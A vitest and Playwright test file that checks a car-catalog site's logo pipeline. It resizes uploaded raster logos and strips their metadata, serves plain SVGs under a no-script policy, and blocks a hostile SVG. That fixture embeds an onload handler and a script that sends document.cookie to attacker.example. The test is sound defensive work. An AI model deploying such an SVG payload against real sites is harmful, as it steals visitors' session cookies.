import { readFile, mkdtemp, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { Browser } from "playwright-core";
import sharp from "sharp";
import { afterAll, beforeAll, expect, test } from "vitest";
import { BRAND_WALL } from "../../app/catalog/brand-wall";
import { DEMO_VEHICLE_ROWS } from "../../app/catalog/demo-catalog";
import { LOGO_BOXES, LOGO_PLACEHOLDER, logoParts } from "../../app/pictures/picture";
import { CAMERA_MODEL, phonePhoto, writePictures } from "../../tests/support/pictures";
import { startPostgrest, type FakePostgrest } from "../../tests/support/postgrest";
import { createStorage } from "../../tests/support/storage";
import { launchBrowser } from "../support/browser";
import { picturesSettled, startSite, type RunningSite } from "../support/site";

// Brand logos as an owner uploads them, under the logos' own names in the
// bucket (brand/*.svg), served by the Storage stand-in: a phone photo saved as
// PNG, a phone's JPEG with GPS EXIF, a 12 MP WebP, a hostile SVG, and the
// project's own SVG wordmark. / and /fleet must send each through the picture
// pipeline (docs/decisions/018-logos-through-the-pipeline.md): raster copies
// fitting the drawn box at 1x-3x with no metadata, the plain SVG as it is under
// a policy that runs nothing, the hostile one never (the placeholder instead,
// and one log line naming the file and the fix).

const HOSTILE_SVG = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="240" height="80" onload="alert(document.cookie)">
  <script>fetch("https://attacker.example/steal?c=" + document.cookie)</script>
  <image xlink:href="https://attacker.example/track.png" width="10" height="10"/>
  <foreignObject width="240" height="80"><div xmlns="http://www.w3.org/1999/xhtml">hello</div></foreignObject>
  <text x="10" y="50" fill="#fff">AUDI</text>
</svg>`;

/** The brands whose logos the owner replaced, by kind of upload; McLaren keeps the project's wordmark. */
const RASTER = { "brand/lamborghini.svg": "png", "brand/rolls-royce.svg": "jpeg", "brand/mercedes.svg": "webp" } as const;
const HOSTILE = "brand/audi.svg";
const PLAIN = "brand/mclaren.svg";
const BRANDS = ["Lamborghini", "Rolls-Royce", "Mercedes", "Audi", "McLaren"];
// One card per brand, without photos: the cards' logos are what is measured.
const ROWS = BRANDS.map((brand) => ({ ...DEMO_VEHICLE_ROWS.find((row) => row.brand === brand)!, images: [] }));

let dir: string;
let cacheDir: string;
let backend: FakePostgrest;
let site: RunningSite;
let browser: Browser;
let plainSvg: Buffer;

beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), "logos-originals-"));
  cacheDir = await mkdtemp(join(tmpdir(), "logos-cache-"));
  plainSvg = await readFile("public/media/brand/mclaren.svg");
  const gpsJpeg = await phonePhoto(6, 2);
  expect((await sharp(gpsJpeg).metadata()).exif?.includes(Buffer.from(CAMERA_MODEL))).toBe(true);
  await writePictures(dir, {
    "brand/lamborghini.svg": await sharp(await phonePhoto(1, 1)).resize(2016).png().toBuffer(),
    "brand/rolls-royce.svg": gpsJpeg,
    "brand/mercedes.svg": await sharp(await phonePhoto(1, 3)).webp({ quality: 90 }).toBuffer(),
    [HOSTILE]: Buffer.from(HOSTILE_SVG),
    [PLAIN]: plainSvg,
  });
  backend = await startPostgrest({ rows: ROWS, storage: createStorage(dir) });
  [site, browser] = await Promise.all([startSite({ SUPABASE_URL: backend.url, SUPABASE_ANON_KEY: "test-anon-key", PICTURE_CACHE_DIR: cacheDir }), launchBrowser()]);
  await picturesSettled(site, "/");
  await picturesSettled(site, "/fleet");
}, 120_000);

afterAll(async () => {
  await browser?.close();
  await site?.stop();
  await backend?.close();
  await rm(dir, { recursive: true, force: true });
  await rm(cacheDir, { recursive: true, force: true });
});

const page = async (path: string) => (await fetch(`${site.url}${path}`)).text();

/** Every URL one logo's markup names (its <img> and the <source>s before it in the same <li> or chip), by the logo's path. */
function logoUrls(html: string, path: string): string[] {
  const urls = [...html.matchAll(/(?:src|srcSet|srcset)="([^"]*)"/g)].flatMap((match) => match[1]!.split(",").map((each) => each.trim().split(/\s+/)[0]!));
  return [...new Set(urls.filter((url) => url.includes(`/${path}.`) || url.includes(path)))];
}

type Sent = { url: string; status: number; type: string | null; headers: Headers; bytes: Buffer; redirectedTo: string | null };

/** What the site sends for `url`, a redirect followed once. */
async function sent(url: string): Promise<Sent> {
  const target = url.startsWith("http") ? url : `${site.url}${url}`;
  const first = await fetch(target, { redirect: "manual" });
  const location = first.headers.get("location");
  if (first.status !== 302 || !location) {
    return { url, status: first.status, type: first.headers.get("content-type"), headers: first.headers, bytes: Buffer.from(await first.arrayBuffer()), redirectedTo: null };
  }
  await first.arrayBuffer();
  const second = await fetch(new URL(location, target), { redirect: "manual" });
  return { url, status: second.status, type: second.headers.get("content-type"), headers: second.headers, bytes: Buffer.from(await second.arrayBuffer()), redirectedTo: location };
}

test.each(["/", "/fleet"])("%s sends owner-uploaded raster logos as copies the size of the drawn box, without their metadata", async (path) => {
  const html = await page(path);
  // Nothing is asked of the bucket by the visitor's browser.
  expect(html).not.toContain(`${backend.url}/storage/v1/object/public/media/brand/`);
  for (const [logo, uploaded] of Object.entries(RASTER)) {
    const urls = logoUrls(html, logo);
    // AVIF and WebP at 1x, 2x and 3x, and the JPEG fallback.
    expect(urls.filter((url) => /\.(avif|webp)$/.test(url)), logo).toHaveLength(6);
    for (const url of urls) {
      const copy = await sent(url);
      expect([copy.status, copy.headers.get("x-picture-placeholder")], url).toEqual([200, null]);
      const [box, density] = logoParts(url.split("/")[2]!)!;
      const { width, height } = LOGO_BOXES[box];
      const meta = await sharp(copy.bytes).metadata();
      expect(meta.format, url).toBe(url.endsWith(".jpg") ? "jpeg" : url.endsWith(".webp") ? "webp" : "heif");
      // Inside the box at that density, and filling it across or down: the drawn size, not the original's.
      expect(meta.width!, url).toBeLessThanOrEqual(width * density);
      expect(meta.height!, url).toBeLessThanOrEqual(height * density);
      expect(Math.max(meta.width! / (width * density), meta.height! / (height * density)), url).toBeGreaterThan(0.97);
      expect([meta.exif, meta.icc, meta.xmp, meta.iptc], url).toEqual([undefined, undefined, undefined, undefined]);
      expect(copy.bytes.includes(Buffer.from(CAMERA_MODEL)), url).toBe(false);
      expect(copy.bytes.length, `${url} (${uploaded} upload)`).toBeLessThan(40_000);
    }
  }
});

test.each(["/", "/fleet"])("%s sends the plain SVG wordmark as it is, under a policy that runs nothing", async (path) => {
  const urls = logoUrls(await page(path), PLAIN);
  expect(urls).toHaveLength(1);
  const svg = await sent(urls[0]!);
  expect([svg.status, svg.type, svg.redirectedTo]).toEqual([200, "image/svg+xml", null]);
  expect(svg.bytes.equals(plainSvg)).toBe(true);
  expect(svg.headers.get("x-content-type-options")).toBe("nosniff");
  const policy = svg.headers.get("content-security-policy")!;
  expect(policy).toMatch(/(^|;\s*)default-src 'none'/);
  expect(policy).not.toMatch(/script-src/);
});

test("a hostile SVG logo is never sent: the placeholder instead, and one log line naming the file and the fix", async () => {
  for (const path of ["/", "/fleet", "/", "/fleet"]) {
    const urls = logoUrls(await page(path), HOSTILE);
    expect(urls.length, path).toBeGreaterThan(0);
    for (const url of urls) {
      const answer = await sent(url);
      expect([answer.redirectedTo, answer.headers.get("content-type")], url).toEqual([LOGO_PLACEHOLDER, "image/svg+xml"]);
      expect(answer.bytes.toString()).not.toMatch(/script|onload|foreignObject|attacker/);
    }
  }
  const lines = site.logs.filter((line) => line.event === "picture_unusable" && String(line.file).endsWith(HOSTILE));
  expect(lines).toHaveLength(1);
  expect(lines[0]!.file).toBe(`${backend.url}/storage/v1/object/public/media/${HOSTILE}`);
  expect(lines[0]!.problem).toBe("svg-not-plain");
  expect(String(lines[0]!.fix)).toMatch(/Plain SVG/);
});

test.each(["/", "/fleet"])("in Chromium on a 3x phone, %s shows every logo, the hostile one as the placeholder, and fetches only small copies", async (path) => {
  const context = await browser.newContext({ viewport: { width: 390, height: 844 }, deviceScaleFactor: 3, isMobile: true, javaScriptEnabled: false });
  try {
    const tab = await context.newPage();
    const images: { url: string; bytes: number }[] = [];
    const bodies: Promise<void>[] = [];
    tab.on("response", (response) => {
      if (response.request().resourceType() !== "image" || response.status() >= 300) return;
      bodies.push(response.body().then((body) => void images.push({ url: response.url(), bytes: body.length }), () => undefined));
    });
    await tab.goto(`${site.url}${path}`);
    const logos = tab.locator(path === "/" ? 'section[aria-labelledby="brands-title"] img' : "article span img");
    const count = await logos.count();
    expect(count).toBe(path === "/" ? BRAND_WALL.length : BRANDS.length);
    for (let index = 0; index < count; index++) {
      const logo = logos.nth(index);
      await logo.scrollIntoViewIfNeeded();
      await expect.poll(() => logo.evaluate((image: HTMLImageElement) => image.complete && image.naturalWidth > 0)).toBe(true);
    }
    await Promise.all(bodies);
    // Each logo arrived from the site, the hostile one as the placeholder, none from the bucket.
    expect(images.filter((image) => image.url.startsWith(backend.url))).toEqual([]);
    expect(images.some((image) => image.url.endsWith(LOGO_PLACEHOLDER))).toBe(true);
    expect(images.filter((image) => image.url.includes(HOSTILE))).toEqual([]);
    const logoBytes = images.filter((image) => image.url.includes("/brand/")).reduce((sum, image) => sum + image.bytes, 0);
    console.log(`${path}: logos ${logoBytes} bytes in ${images.filter((image) => image.url.includes("/brand/")).length} images`);
    expect(logoBytes).toBeLessThan(100_000);
  } finally {
    await context.close();
  }
});
